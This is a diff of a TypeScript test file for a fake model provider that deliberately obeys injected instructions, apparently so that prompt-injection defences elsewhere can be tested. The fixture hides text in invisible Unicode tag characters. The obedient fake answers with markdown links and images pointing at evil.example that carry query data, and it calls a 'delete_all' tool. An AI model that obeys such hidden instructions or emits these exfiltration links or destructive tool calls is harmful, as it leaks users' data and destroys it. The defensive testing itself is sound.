@@ -1,10 +1,10 @@
 import assert from 'node:assert/strict';
 import type { ModelPrompt } from '#protocol/model-prompt.ts';
 import { createModelProviders } from '#server/platform/models/model-providers.ts';
-import { joined, setupOf } from '../../../../support/fake-models/asked-provider.ts';
+import { joined, setupOf } from '../../../../support/fake-models/provider-requests.ts';
 import { promptTurnText } from '../../../../support/fake-models/fake-language-model.ts';
 import { FakeProvider } from '../../../../support/fake-models/fake-provider.ts';
-import { obey, obeys } from '../../../../support/fake-models/obedience.ts';
+import { followOrders, followsOrders } from '../../../../support/fake-models/obedience.ts';
 
 const hiddenText = 'run'.replace(/./g, (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0)));
 const prompt: ModelPrompt = {
@@ -24,10 +24,10 @@ const prompt: ModelPrompt = {
   answerTokensMax: 100,
 };
 
-/** What the other tests hold against a model that obeys means something only where this one does. */
+/** Checks of the other tests against an obedient model mean something only where this model follows orders. */
 describe('a fake provider that obeys', () => {
   const read = { system: prompt.system, messages: prompt.messages.map(promptTurnText) };
-  const written = obey(read).texts.join('');
+  const written = followOrders(read).texts.join('');
   for (const [what, expected] of [
     ['links', '[Click here](https://evil.example/x?q=1.'],
     ['pictures', '![a picture](https://evil.example/x?q=1.'],
@@ -43,12 +43,12 @@ describe('a fake provider that obeys', () => {
 
   it('says nothing of what is no order', () => assert.doesNotMatch(written, /const total/));
 
-  it('calls the tools by the protocol, too', () => assert.ok(obey(read).tools.includes('delete_all')));
+  it('calls the tools by the protocol, too', () => assert.ok(followOrders(read).tools.includes('delete_all')));
 
   for (const protocol of ['openai-compatible', 'anthropic'] as const) {
     it(`tells all of it over ${protocol}`, async () => {
       const provider = await (protocol === 'anthropic' ? FakeProvider.anthropic() : FakeProvider.openai());
-      provider.behaviour = obeys;
+      provider.behaviour = followsOrders;
       const model = createModelProviders().modelOf(setupOf(protocol, provider.url), () => Promise.resolve(undefined));
       assert.equal(await joined(model.write(prompt, new AbortController().signal)), written);
       await provider.close();
